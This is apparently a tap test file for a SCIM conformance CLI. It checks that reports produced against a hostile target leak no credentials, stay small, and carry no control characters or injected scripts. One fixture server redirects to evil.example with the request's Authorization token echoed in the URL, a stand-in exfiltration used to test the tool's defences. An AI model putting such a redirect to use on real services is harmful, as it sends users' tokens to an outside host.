import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import t, { type Test } from 'tap';
import { formats } from '../../reports/formats.js';
import { runSuite } from '../../suites/index.js';
import { alwaysKept } from '../../suites/client/body-budget.js';
import type { Report } from '../../schemas/types.js';
import { runCli } from '../harness/run-cli.js';
import { startHostileTarget } from '../providers/hostile-target.js';
import { poison, spellingsOf } from '../providers/poison.js';
import { traceRefusal } from '../harness/valid.js';
import { refusals } from '../harness/report-refusals.js';

t.setTimeout(600_000);

/** One that may stand in the name of a field, and one with what URLs and JSON escape. */
const secrets = { token: 'Tok3n.of~the+run-that-nobody_may-see', second: 'Second+token/of-the_run/too==' };

/** Of every part of a run some; none that looks at the traffic of all scenarios. */
const only = [
  ...[
    'CORE-01',
    'CORE-02',
    'CORE-03',
    'CORE-06',
    'DISC-01',
    'MODE-01',
    'ACC-01',
    'ACC-02',
    'ACC-04',
    'STAT-01',
    'STAT-03',
  ],
  ...[
    'LIFE-01',
    'LIFE-05',
    'BULK-01',
    'BULK-05',
    'ERR-02',
    'ERR-06',
    'ERR-07',
    'SEC-01',
    'SEC-03',
    'PREF-02',
    'PREF-03',
  ],
];

const mebibyte = 1024 * 1024;

/** Bytes of a report: half of one answer of the target, and what no CI system refuses as an artefact. */
const mostOfReport = 5 * mebibyte;

/** Bytes of a recording: what long bodies share, escaped as JSON, and for every exchange the rest of it. */
const mostOfTrace = ({ traffic }: Report): number => 2 * 64 * mebibyte + traffic.exchanges * 64 * 1024;

/** The text without escapes, as a reader might decode it. */
const undone = (text: string): string =>
  text
    .replaceAll(/\\{0,8}u00([0-7][0-9a-f])/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replaceAll(/&#x([0-7]?[0-9a-f]);/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replaceAll(/&#(\d{1,3});/g, (_, decimal: string) => String.fromCharCode(Number(decimal)))
    .replaceAll(/%(?:25)?([0-7][0-9a-f])/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replaceAll(/\\+(?=\/)/g, '');

/** Base64 at its three places, without what its neighbours have a part in. */
const base64Of = (secret: string): string[] =>
  [0, 1, 2].flatMap((before) => {
    const bytes = Buffer.from('x'.repeat(before) + secret);
    const inner = (text: string): string => text.slice(4, -4);
    return [inner(bytes.toString('base64')), inner(bytes.toString('base64url'))];
  });

/** The places of a credential in a text: whole, cut, or in any spelling. */
const leakIn = (text: string): string | undefined => {
  const plain = undone(text);
  for (const secret of Object.values(secrets)) {
    const forms = [secret, secret.slice(0, 12), secret.slice(-12), ...spellingsOf(secret), ...base64Of(secret)];
    const form = forms.find((each) => text.includes(each) || plain.includes(each));
    if (form !== undefined) return text.slice(Math.max(0, text.indexOf(form) - 100), text.indexOf(form) + 50);
  }
  return undefined;
};

/** What could harm a reader of the text: control characters, invisible characters, a script. */
const harmIn = (text: string): string | undefined =>
  // eslint-disable-next-line no-control-regex -- control characters are what this is about
  /.{0,80}(?:[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\ufffe\uffff]|<script).{0,20}/iu.exec(
    text,
  )?.[0];

const inspect = (t: Test, name: string, bytes: Buffer, most: number): string => {
  const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
  t.equal(leakIn(text), undefined, `${name} holds no credential`);
  // The one script of the HTML report is its own, and its policy lets no other run.
  t.equal(harmIn(name === 'html' ? text.replace('<script>', '') : text), undefined, `${name} is harmless`);
  t.equal(bytes.length < most, true, `${name} is small: ${bytes.length} bytes`);
  return text;
};

void t.test('the test itself sees what it looks for', (t) => {
  const broken: Partial<Record<keyof typeof refusals, string>> = {
    annotations: '::error title=x::y\nnot a command',
    badge: '<svg>',
    har: '{"log":{}}',
    html: '<script></script><img src=x>',
    json: '{}',
    junit: '<testsuites name="x"/>',
    tap: 'TAP version 14\n1..1\nok 1 - x\nforged\n',
  };
  for (const [name, text] of Object.entries(broken))
    t.equal(typeof refusals[name as keyof typeof refusals](text), 'string', name);
  t.equal(typeof traceRefusal('{"type":"exchange"}'), 'string');
  for (const spelling of spellingsOf(secrets.second)) t.equal(typeof leakIn(`x ${spelling} y`), 'string', spelling);
  for (const text of [poison.ansi, poison.markup, poison.nul, poison.unseen]) t.equal(typeof harmIn(text), 'string');
  t.equal(leakIn('Bearer {{primary}}'), undefined);
  t.end();
});

void t.test(
  'every report of a hostile target is well-formed, small and harmless, and no credential is in it',
  async (t) => {
    const target = await startHostileTarget(20);
    t.teardown(() => target.stop());
    const folder = await mkdtemp(path.join(tmpdir(), 'scim-conformance-'));
    t.teardown(() => rm(folder, { recursive: true }));
    const names = Object.keys(formats) as (keyof typeof formats)[];
    const { code, stdout, stderr } = await runCli(
      [
        ...['--target', target.url, '--token', secrets.token, '--second-token', secrets.second],
        ...['--runs', '1', '--deadline', '2', '--timeout', '20', '--seed', '1', '--only', ...only],
        ...names
          .filter((name) => name !== 'json')
          .flatMap((name) => ['--report', `${name}=${path.join(folder, name)}`]),
        ...['--json', path.join(folder, 'json'), '--trace', path.join(folder, 'trace')],
      ],
      {},
    );
    t.equal(code, 1, stderr);
    t.equal(target.flooded() > 10, true, `${target.flooded()} answers of 10 MB`);
    t.strictSame((await readdir(folder)).toSorted(), [...names, 'trace'].toSorted(), 'no draft is left');
    const bytesOf = (name: string): Promise<Buffer> => readFile(path.join(folder, name));
    for (const name of names) {
      const text = inspect(t, name, await bytesOf(name), mostOfReport);
      t.equal(refusals[name](text), undefined, `${name} is well-formed`);
    }
    const report = JSON.parse((await bytesOf('json')).toString()) as Report;
    t.equal(report.verdict, 'non-conformant');
    const crashed = report.requirements.filter(({ outcome }) => outcome === 'harness-error');
    t.strictSame(
      crashed.map(({ id, reason }) => [id, reason]),
      [],
    );
    t.equal(report.counts.fail > 8, true, 'there was something to report');
    t.equal(traceRefusal(inspect(t, 'trace', await bytesOf('trace'), mostOfTrace(report))), undefined, 'trace');
    t.equal(refusals.tap(inspect(t, 'standard output', Buffer.from(stdout), mostOfReport)), undefined);
    inspect(t, 'standard error', Buffer.from(stderr), 4096);
  },
);

void t.test('messages about a target that cannot be tested are harmless, too', async (t) => {
  const server = createServer((request, response) => {
    const echo = encodeURIComponent(request.headers.authorization ?? '');
    response.writeHead(302, { Location: `https://evil.example/${poison.markup}?t=${echo}\u009b31m` }).end(poison.ansi);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.teardown(() => server.close());
  const { port } = server.address() as AddressInfo;
  const target = `http://127.0.0.1:${port}/scim`;
  const { code, stdout, stderr } = await runCli(['--target', target, '--token', secrets.token]);
  t.equal(code, 3);
  t.match(stderr, /was redirected \(302\) to https:\/\/evil\.example\//);
  inspect(t, 'standard output', Buffer.from(stdout), 4096);
  inspect(t, 'standard error', Buffer.from(stderr), 4096);
});

void t.test('hundreds of answers of 10 MB use limited memory, and nothing crashes', async (t) => {
  const target = await startHostileTarget(1);
  t.teardown(() => target.stop());
  const keptBytes = 2 * mebibyte;
  let exchanges = 0;
  let kept = 0;
  let cut = 0;
  const report = await runSuite({
    target: { baseUrl: target.url, token: secrets.token },
    seed: 1,
    runs: 1,
    burst: 0,
    deadlineMs: 2000,
    maxRequests: 400,
    keptBytes,
    onEvent: (event) => {
      if (event.type !== 'exercised') return;
      for (const entry of event.trace.entries) {
        if (entry.type !== 'exchange' || entry.response === undefined) continue;
        exchanges += 1;
        kept += Buffer.byteLength(entry.response.body);
        if (entry.response.truncated) cut += 1;
      }
    },
  });
  t.equal(report.counts['harness-error'], 0);
  t.equal(target.flooded() > 300, true, `${target.flooded()} answers of 10 MB`);
  t.equal(cut > 200, true, `${cut} of ${exchanges} answers were cut`);
  t.equal(kept <= keptBytes + exchanges * alwaysKept, true, `${kept} bytes were kept of ${exchanges} answers`);
});
